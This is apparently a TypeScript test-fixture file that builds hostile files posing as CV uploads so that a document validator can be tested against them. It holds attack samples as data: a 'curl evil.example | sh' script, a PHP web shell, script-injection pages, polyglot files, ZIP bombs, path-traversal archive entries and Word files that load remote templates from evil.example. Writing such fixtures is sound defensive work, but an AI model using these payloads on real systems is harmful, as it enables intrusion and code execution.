import {
  compoundFile,
  docx,
  docxReferringTo,
  wordParts,
  xls,
  xlsx,
  type ZipPart,
  zip,
  zipOf,
} from './office-files.ts';
import { gif, pngOfSize } from './picture-files.ts';

/** Files sent as a CV that are not a CV or attack its reader: name, bytes, claimed type. */
export type HostileFile = [what: string, name: string, bytes: () => Buffer, type?: string];

const PDF_FILE = '%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n';
const DOC = 'application/msword';
const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const PAGE = '<!doctype html><script>alert(document.domain)</script>';

const text = (content: string) => () => Buffer.from(content, 'latin1');
const glued = (...parts: (string | Buffer)[]) => Buffer.concat(parts.map((part) => Buffer.from(part)));
const word = (...more: ZipPart[]) => zipOf([...wordParts(), ...more]);
/** The document with one part replaced. */
const wordWith = (name: string, change: Partial<ZipPart>) =>
  zipOf(wordParts().map((part) => (part.name === name ? { ...part, ...change } : part)));
const typesOf = (from: string, to: string) =>
  wordWith('[Content_Types].xml', { content: String(wordParts()[0]!.content).replace(from, to) });

export const NO_PDFS: HostileFile[] = [
  ['a Windows executable', 'cv.pdf', text('MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0')],
  ['a Linux executable', 'cv.pdf', text('\x7fELF\x02\x01\x01\0')],
  ['a shell script', 'cv.pdf', text('#!/bin/sh\ncurl evil.example | sh\n')],
  ['a PHP script', 'cv.pdf', text('<?php system($_GET["c"]); ?>')],
  ['a PHP script with a double extension', 'cv.php.pdf', text('<?php phpinfo(); ?>')],
  ['a page', 'cv.pdf', text(PAGE)],
  ['an HTML page declared as HTML', 'cv.html', text(PAGE), 'text/html'],
  ['an HTML page containing a PDF', 'cv.pdf', text(`<!--${PDF_FILE}-->${PAGE}`)],
  ['a PDF followed by an HTML page', 'cv.pdf', text(`${PDF_FILE}${PAGE}`)],
  ['a PDF followed by a Java archive', 'cv.pdf', () => glued(PDF_FILE, zip({ 'Main.class': '\xca\xfe' }))],
  ['a truncated PDF', 'cv.pdf', text(PDF_FILE.slice(0, -10))],
  ['only a PDF header', 'cv.pdf', text('%PDF-1.4')],
  ['a script with a PDF header', 'cv.pdf', text('%PDF-1.4=1;alert(1)//')],
  ['a PDF without a version', 'cv.pdf', text(`%PDF-x<script>\n${PDF_FILE}`)],
  ['a picture', 'cv.pdf', () => pngOfSize(1, 1), 'image/png'],
  ['a GIF that is also a script', 'cv.pdf', text('GIF89a/*\0\0*/=1;alert(1)')],
  ['an SVG with a script', 'cv.pdf', text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  ['nothing', 'cv.pdf', text('')],
  ['one byte', 'cv.pdf', text('%')],
  ['zeros', 'cv.pdf', () => Buffer.alloc(4096)],
  ['a mail', 'cv.pdf', text('From: a@b.com\r\nSubject: CV\r\n\r\nHello')],
  ['a Windows shortcut', 'cv.pdf', () => Buffer.from('4c0000000114020000000000c000000000000046', 'hex')],
];

export const NO_WORD_PACKAGES: HostileFile[] = [
  ['a ZIP', 'cv.docx', () => zip({ 'evil.exe': 'MZ' }), DOCX],
  [
    'a nested ZIP',
    'cv.docx',
    () => zipOf([{ name: 'a.zip', content: zipOf([{ name: 'b.zip', content: docx() }]) }]),
    DOCX,
  ],
  ['a spreadsheet', 'cv.docx', xlsx, DOCX],
  [
    'a presentation',
    'cv.docx',
    () => typesOf('wordprocessingml.document.main', 'presentationml.presentation.main'),
    DOCX,
  ],
  [
    'a spreadsheet too',
    'cv.docx',
    () =>
      typesOf(
        '</Types>',
        '<Default Extension="x" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
      ),
    DOCX,
  ],
  ['a template', 'cv.docx', () => typesOf('document.main', 'template.main'), DOCX],
  ['without its document', 'cv.docx', () => typesOf('/word/document.xml', '/word/other.xml'), DOCX],
  [
    'with macros',
    'cv.docx',
    () =>
      typesOf(
        'openxmlformats-officedocument.wordprocessingml.document.main',
        'ms-word.document.macroEnabled.main',
      ),
    DOCX,
  ],
  [
    'with hidden macros',
    'cv.docx',
    () => word({ name: 'word/vbaProject.bin', content: 'Attribute VB_Name' }),
    DOCX,
  ],
  [
    'a ZIP bomb that declares its size',
    'cv.docx',
    () => wordWith('word/document.xml', { isDeflated: true, claimed: 4_000_000_000 }),
    DOCX,
  ],
  [
    'a ZIP bomb that declares a small size',
    'cv.docx',
    () =>
      wordWith('word/document.xml', { content: Buffer.alloc(20_000_000), isDeflated: true, claimed: 500 }),
    DOCX,
  ],
  [
    'a ZIP bomb spread over many parts',
    'cv.docx',
    () =>
      word(
        ...Array.from({ length: 60 }, (_, index) => ({
          name: `word/media/${index}.xml`,
          content: Buffer.alloc(2_000_000),
          isDeflated: true,
        })),
      ),
    DOCX,
  ],
  ['with 50,000 parts', 'cv.docx', () => docxOfManyParts(50_000), DOCX],
  ['with a path traversal', 'cv.docx', () => word({ name: '../../.bashrc', content: 'x' }), DOCX],
  ['with an absolute path', 'cv.docx', () => word({ name: '/etc/cron.d/x', content: 'x' }), DOCX],
  ['with a Windows path', 'cv.docx', () => word({ name: '..\\..\\evil.bat', content: 'x' }), DOCX],
  ['with a drive letter', 'cv.docx', () => word({ name: 'C:/evil.bat', content: 'x' }), DOCX],
  ['with two parts of the same name', 'cv.docx', () => word(wordParts()[2]!), DOCX],
  [
    'with different names in the local headers',
    'cv.docx',
    () => wordWith('word/document.xml', { localName: 'evil/program.exe' }),
    DOCX,
  ],
  ['encrypted', 'cv.docx', () => wordWith('word/document.xml', { flags: 1 }), DOCX],
  ['that declares a wrong size', 'cv.docx', () => wordWith('word/document.xml', { claimed: 7 }), DOCX],
  ['whose compressed data is corrupt', 'cv.docx', () => docx().fill(0xff, 100, 140), DOCX],
  ['that is truncated', 'cv.docx', () => docx().subarray(0, -30), DOCX],
  ['followed by an HTML page', 'cv.docx', () => glued(docx(), PAGE), DOCX],
  ['appended to an image', 'cv.docx', () => glued(gif(), docx()), DOCX],
  ['appended to an HTML page', 'cv.docx', () => glued(PAGE, docx()), DOCX],
  [
    'whose content types are UTF-16',
    'cv.docx',
    () =>
      wordWith('[Content_Types].xml', { content: Buffer.from(String(wordParts()[0]!.content), 'utf16le') }),
    DOCX,
  ],
];

export const NO_OLD_DOCUMENTS: HostileFile[] = [
  ['a spreadsheet', 'cv.doc', () => xls(), DOC],
  ['a spreadsheet that mentions Word', 'cv.doc', () => xls('WordDocument'), DOC],
  ['an installer', 'cv.doc', () => compoundFile('\u4840\u3f3f\u4577\u446c'), DOC],
  ['an Outlook message', 'cv.doc', () => compoundFile('__properties_version1.0'), DOC],
  [
    'a folder named like a Word document',
    'cv.doc',
    () => compoundFile('WordDocument', { isStorage: true }),
    DOC,
  ],
  ['with macros', 'cv.doc', () => compoundFile('WordDocument', { beside: 'Macros' }), DOC],
  ['that is truncated', 'cv.doc', () => compoundFile('WordDocument').subarray(0, 1100), DOC],
  ['whose sector chain is a cycle', 'cv.doc', () => chained(1, 1), DOC],
  ['whose sector chain leads nowhere', 'cv.doc', () => chained(1, 0x00ffffff), DOC],
  ['that is RTF with an embedded object', 'cv.doc', text('{\\rtf1\\ansi{\\object\\objdata 0105}}'), DOC],
  [
    'that is Word 2003 XML',
    'cv.doc',
    text('<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>'),
    DOC,
  ],
  [
    'that is an MHTML page',
    'cv.doc',
    text('MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n'),
    DOC,
  ],
];

/** Valid Word documents that fetch a remote resource when opened. */
export const REACHING_OUT: HostileFile[] = [
  ['a template', 'cv.docx', () => docxReferringTo('attachedTemplate', 'https://evil.example/t.dotm'), DOCX],
  [
    'a remote template, in a different notation',
    'cv.docx',
    () => docxReferringTo('attachedTemplate', '&#x68;ttps://evil.example/t.dotm'),
    DOCX,
  ],
  [
    'a template on another computer',
    'cv.docx',
    () => docxReferringTo('attachedTemplate', 'file://///evil.example/t.dotm'),
    DOCX,
  ],
  [
    'an object',
    'cv.docx',
    () => docxReferringTo('oleObject', 'mhtml:https://evil.example/x.html!x-usc:https://evil.example'),
    DOCX,
  ],
  ['a frame', 'cv.docx', () => docxReferringTo('frame', 'https://evil.example/'), DOCX],
  [
    'an image on another computer',
    'cv.docx',
    () => docxReferringTo('image', '\\\\evil.example\\share\\a.png'),
    DOCX,
  ],
];

/** A compound file whose allocation table links one sector to another. */
function chained(from: number, to: number): Buffer {
  const bytes = compoundFile('WordDocument');
  bytes.writeUInt32LE(to, 512 + from * 4);
  return bytes;
}

/** Too many parts for the largest accepted file. */
export const docxOfManyParts = (count: number): Buffer =>
  word(...Array.from({ length: count }, (_, index) => ({ name: `${index}`, content: '' })));
